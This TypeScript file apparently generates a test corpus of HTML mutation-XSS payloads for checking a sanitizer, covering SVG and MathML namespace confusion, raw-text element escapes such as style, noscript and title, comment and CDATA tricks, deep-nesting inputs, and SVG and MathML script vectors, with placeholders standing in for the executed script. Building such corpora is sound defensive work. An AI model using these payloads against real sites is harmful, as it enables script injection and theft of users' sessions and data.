/** Markup that is read otherwise the second time, and the two foreign languages that HTML takes in. */
import { cross } from './cross';

const FIRES = '<img src=x? onerror=RUN>';
const CODED_FIRES = '&lt;img src=x? onerror=RUN&gt;';

const RAW_TEXT = [
  'style',
  'xmp',
  'noscript',
  'noembed',
  'noframes',
  'iframe',
  'title',
  'textarea',
  'plaintext',
  'script',
  'listing',
];

/** Namespaces to be in when the raw text begins: `IN` is replaced. */
const WRAPPERS = [
  'IN',
  '<svg>IN</svg>',
  '<math>IN</math>',
  '<svg></p>IN',
  '<math></p>IN',
  '<svg><desc>IN</desc></svg>',
  '<svg><foreignObject>IN</foreignObject></svg>',
  '<svg><title>IN</title></svg>',
  '<math><mtext>IN</mtext></math>',
  '<math><mtext><table><mglyph>IN',
  '<math><mtext><table><malignmark>IN',
  '<math><annotation-xml encoding="text/html">IN</annotation-xml></math>',
  '<math><annotation-xml encoding="text/html"><svg>IN',
  '<svg><annotation-xml><foreignobject>IN',
  '<form><math><mtext></form><form><mglyph>IN',
  '<form><svg><desc></form><form>IN',
  '<table><tr><td><form><svg><mtext></form>IN',
  '<select><svg>IN</svg></select>',
  '<template><svg>IN</svg></template>',
  '<p><b><svg><p>IN',
  '<table><svg>IN</svg></table>',
];

export function mutations(): string[] {
  const hiding = (raw: string) => [
    `<${raw}><a title="</${raw}>${FIRES}">`,
    `<${raw}><!--</${raw}><a title="--&gt;${CODED_FIRES}">`,
    `<${raw}><![CDATA[</${raw}>]]>${FIRES}`,
  ];
  return [
    ...WRAPPERS.flatMap((wrapper) =>
      ['style', 'noscript', 'xmp', 'title'].flatMap(hiding).map((inside) => wrapper.replace('IN', inside)),
    ),
    ...RAW_TEXT.flatMap((raw) => hiding(raw)),
    ...RAW_TEXT.map((raw) => `<${raw}>${CODED_FIRES}</${raw}>`),
    ...['<!--', '<!---', '<!-->', '<!--->', '<!--!>', '<!x', '<?', '</ ', '<![CDATA['].flatMap((open) => [
      `${open}<p title="-->${FIRES}">`,
      `<svg>${open}</svg>${FIRES}-->`,
      `<math>${open}]]>${FIRES}`,
    ]),
    ...['p', 'br', 'b', 'table', 'ul', 'h1', 'img', 'font color=x', 'center'].map(
      (leaver) => `<svg><${leaver}><style><a title="</style>${FIRES}">`,
    ),
    ...['p', 'br', 'b', 'table'].map((leaver) => `<math><mi><${leaver}><style><a title="</style>${FIRES}">`),
    `${'<div>'.repeat(520)}<svg><style><a title="</style>${FIRES}">`,
    `${'<b>'.repeat(600)}<math><mtext><style><!--</style>${CODED_FIRES}`,
    `${'<form><div>'.repeat(255)}<form></form><svg><style><a title="</style>${FIRES}">`,
    `<a>${'<a><div>'.repeat(40)}<svg><style></a><a title="</style>${FIRES}">`,
    `<table>${'<td><table>'.repeat(60)}<svg><style><a title="</style>${FIRES}">`,
    '<img alt="``onerror=RUN" src=x?>',
    '<p title="`` onmouseover=RUN">x</p>',
    '<q cite="a`> <img src=x? onerror=RUN>">x</q>',
    '<a title="&lt;/noscript&gt;&lt;img src=x? onerror=RUN&gt;">x</a>',
    '<pre>\n\n<listing>\n&lt;img src=x? onerror=RUN&gt;</listing></pre>',
    '<ruby><rt><rtc><style><a title="</style><img src=x? onerror=RUN>">',
    '<dl><dt><svg></dt><style><a title="</style><img src=x? onerror=RUN>">',
    '<col><svg><style><a title="</style><img src=x? onerror=RUN>"></col>',
    '<option><style></option></select><a title="</style><img src=x? onerror=RUN>">',
    '<image src=x? onerror=RUN>',
    '<p is="x"><image/src=x? onerror=RUN>',
  ];
}

const SVG_INSIDE = [
  '<script>RUN</script>',
  '<script xlink:href="data:text/javascript,RUN"></script>',
  '<script>&#114;RUN</script>',
  '<g onload=RUN></g>',
  '<a href="javascript:RUN"><circle r=99></circle></a>',
  '<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:RUN"><text y=9>x</text></a>',
  '<use href="data:image/svg+xml,<svg id=x xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;RUN&quot;/>#x"></use>',
  '<a id=m><text y=9>x</text></a><animate href=#m attributeName=href values=javascript:RUN></animate>',
  '<a><set attributeName=href to=javascript:RUN></set><text y=9>x</text></a>',
  '<set attributeName=onmouseover to=RUN></set>',
  '<animate attributeName=x dur=1s onbegin=RUN onend=RUN></animate>',
  '<animateTransform onbegin=RUN attributeName=transform dur=1s></animateTransform>',
  '<discard onbegin=RUN></discard>',
  '<foreignObject><img src=x? onerror=RUN></foreignObject>',
  '<foreignObject><iframe src="javascript:RUN"></iframe></foreignObject>',
  '<foreignObject><body onload=RUN></foreignObject>',
  '<image href=x? onerror=RUN></image>',
  '<feImage href="javascript:RUN"></feImage>',
  '<style>@import "AWAY";*{fill:url(AWAY)}</style>',
  '<style>&lt;/style&gt;&lt;img src=x? onerror=RUN&gt;</style>',
  '<desc><![CDATA[</desc><script>RUN</script>]]></desc>',
  '<title><a id="</title><img src=x? onerror=RUN>">',
  '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>RUN</handler>',
  '<listener event=load handler="javascript:RUN">',
  '<text><tspan onmouseover=RUN>x</tspan></text>',
  '<metadata><p><img src=x? onerror=RUN></metadata>',
  '<font-face-uri href="AWAY">',
  '<filter><feImage href="AWAY"></feImage></filter>',
];

const MATH_INSIDE = [
  '<maction actiontype="statusline#javascript:RUN" xlink:href="javascript:RUN">x</maction>',
  '<mi href="javascript:RUN">x</mi>',
  '<annotation-xml encoding="text/html"><img src=x? onerror=RUN></annotation-xml>',
  '<annotation-xml encoding="application/xhtml+xml"><script>RUN</script></annotation-xml>',
  '<semantics><annotation encoding="text/html"><img src=x? onerror=RUN></annotation></semantics>',
  '<mtext><script>RUN</script></mtext>',
  '<mglyph src="javascript:RUN"></mglyph>',
  '<mtext><option><mglyph><svg><mtext><textarea><path id="</textarea><img src=x? onerror=RUN>">',
  '<mi><li><mglyph onclick=RUN>x</mglyph></li></mi>',
  '<brand onclick=RUN>x</brand>',
];

export function foreign(): string[] {
  return [
    ...cross(['<svg>', '<svg/xmlns="http://www.w3.org/2000/svg"\n>', '<p><svg>'], SVG_INSIDE, ['</svg>', '']),
    ...cross(['<math>', '<math xmlns="x">', '<table><math>'], MATH_INSIDE, ['</math>', '']),
    ...cross(
      ['<svg><math>', '<math><svg>', '<svg><svg>'],
      ['<script>RUN</script>', '<mi onclick=RUN>x</mi>', '<style><img src=x? onerror=RUN>'],
    ),
  ];
}
